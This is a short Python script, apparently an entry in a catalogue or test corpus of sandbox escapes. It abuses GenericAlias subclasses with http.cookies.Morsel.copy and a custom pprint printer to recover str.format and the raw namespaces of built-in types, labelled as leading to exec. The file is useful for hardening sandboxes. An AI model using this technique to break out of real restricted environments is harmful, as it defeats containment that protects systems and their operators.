# technique: library methods copy or print the namespace of what stands for self; an alias has that of what it was made of
# source: reading Python's library
# goal: str.format itself; the raw descriptors of a type of Python's
# impact: exec
import http.cookies
import pprint
import types


class Alias(types.GenericAlias):
    __repr__ = types.SimpleNamespace.__repr__

    def __iter__(self):
        return iter(())


alias = Alias(str, ())
try:
    found = http.cookies.Morsel.copy(alias).format
    escaped(found)
except (AttributeError, TypeError):
    pass


class Printer(pprint.PrettyPrinter):
    def format(self, object, context, maxlevels, level):
        shown.append(object)
        return 'x' * 200, True, False


shown = []
for origin in (str, types.FunctionType, type):
    try:
        Printer().pformat(Alias(origin, ()))
    except TypeError:
        pass
for found in shown:
    if type(found) is not Alias:
        escaped(found)
